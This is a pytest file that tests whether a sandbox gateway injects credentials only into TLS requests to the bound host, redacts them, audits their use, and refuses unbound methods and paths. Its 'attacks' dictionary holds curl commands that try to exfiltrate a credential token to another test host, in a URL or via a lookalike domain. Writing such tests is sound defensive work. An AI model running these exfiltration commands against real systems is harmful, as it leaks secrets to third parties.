"""Credentials injected by the gateway (docs/network.md, "Credentials in the
gateway"), against the test internet of tests/netlab.py: the guest holds a
placeholder; the gateway puts the value into requests to the credential's
host inside TLS it terminated, and nowhere else. Each attack sits beside
the legitimate request that gets the credential (its control)."""

import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from netlab import internet, net_log, sh  # noqa: E402,F401

VALUE = "ghp_Zq7VhT3kR9mW2xY5bN8c"  # not the placeholder's length: echoes tell them apart


def echoed(out):
    """The headers /echo saw, from curl's output."""
    return json.loads(out[out.index("{"):out.rindex("}") + 1])["headers"]


def test_credentials_go_only_where_they_are_bound(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    a.api("POST", "/v1/secrets", {"name": "tok", "value": VALUE, "hosts": ["a.test"],
                                  "header": "Authorization: Bearer {value}"}, expect=201)
    sid = a.create(template="python", secrets=["tok"],
                   network={"allow": [{"host": "a.test"}, {"host": "e.test"}]})["id"]
    _, ph = sh(a, sid, "printf %s \"$TOK\"")
    assert ph.startswith("airlock_ph_") and VALUE not in ph, ph

    # the control: the guest sends its placeholder; the origin gets the
    # value, and the guest sees the echo of it overwritten
    _, out = sh(a, sid, 'curl -sS --max-time 10 -H "Authorization: Bearer $TOK" https://a.test/echo')
    got = echoed(out)["Authorization"]
    assert got == "Bearer " + "*" * len(VALUE), out  # the value's length: injected, then redacted
    assert VALUE not in out and ph not in out, out
    # curl speaks HTTP/2 to the gateway by default; the same over HTTP/1.1
    _, out = sh(a, sid, 'curl -sS --http1.1 --max-time 10 -H "Authorization: Bearer $TOK" https://a.test/echo')
    assert echoed(out)["Authorization"] == "Bearer " + "*" * len(VALUE), out
    assert VALUE not in out and ph not in out, out

    attacks = {
        # the guest's own Authorization to the bound host is replaced, never passed
        "guest-header": 'curl -sS --max-time 10 -H "Authorization: Bearer forged" https://a.test/echo',
        # the placeholder over plain HTTP to the bound host: no credential on port 80
        "plain-http": 'curl -sS --max-time 10 -H "Authorization: Bearer $TOK" http://a.test/echo',
        # the placeholder sent to another allowed host (the sink records what it gets)
        "wrong-host": 'curl -sS --max-time 5 -H "Authorization: Bearer $TOK" http://e.test/x',
        # the credential in the URL, to the other host
        "in-url": 'curl -sS --max-time 5 "http://e.test/x?t=$TOK"',
        # a lookalike name that ends like the bound one
        "lookalike": 'curl -sS --max-time 5 -H "Authorization: Bearer $TOK" --resolve a.test.e.test:80:198.18.0.66 '
                     'http://a.test.e.test/x',
    }
    outs = {k: sh(a, sid, cmd)[1] for k, cmd in attacks.items()}
    for k, out in outs.items():
        assert VALUE not in out, (k, out)
    assert echoed(outs["guest-header"])["Authorization"] == "Bearer " + "*" * len(VALUE), outs["guest-header"]
    assert echoed(outs["plain-http"])["Authorization"] == "Bearer " + ph, outs["plain-http"]
    hits = json.dumps(internet.sink_hits())
    assert VALUE not in hits, hits
    assert ph in hits, "the control of wrong-host: the sink got the (worthless) placeholder"

    # every use is audited, with who, where and what, never the value
    events = a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
    uses = [e for e in events if e.get("host") == "a.test" and e.get("action") == "injected"]
    assert len(uses) >= 2, events
    assert VALUE not in json.dumps(events)
    # nor in any log
    assert VALUE not in open(a.log_path, errors="replace").read()
    entries = net_log(a, sid)
    assert VALUE not in json.dumps(entries)


def test_a_credential_bound_to_a_method_and_path_refuses_others(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    a.api("POST", "/v1/secrets", {"name": "ro", "value": VALUE, "hosts": ["a.test"], "methods": ["GET"],
                                  "paths": ["/echo"], "header": "X-Api-Key: {value}"}, expect=201)
    # beside it, 15 more of 8000 bytes each: the largest set reaches the gateway whole
    for i in range(15):
        a.api("POST", "/v1/secrets", {"name": f"big{i}", "value": chr(ord("a") + i) * 8000,
                                      "hosts": [f"h{i}.example.org"], "header": "X-K: {value}"}, expect=201)
    sid = a.create(template="python", secrets=["ro"] + [f"big{i}" for i in range(15)],
                   network={"allow": [{"host": "a.test"}]})["id"]
    _, out = sh(a, sid, "curl -sS --max-time 10 https://a.test/echo")  # the control
    assert echoed(out)["X-Api-Key"] == "*" * len(VALUE), out
    _, out = sh(a, sid, "curl -sS --max-time 10 -w ' code=%{http_code}' https://a.test/hello.txt")
    assert "code=403" in out and "path" in out, out
    _, out = sh(a, sid, "curl -sS --max-time 10 -X POST -d x -w ' code=%{http_code}' https://a.test/echo")
    assert "code=403" in out and "method" in out, out
    events = a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
    assert any(e.get("action") == "refused" for e in events), events
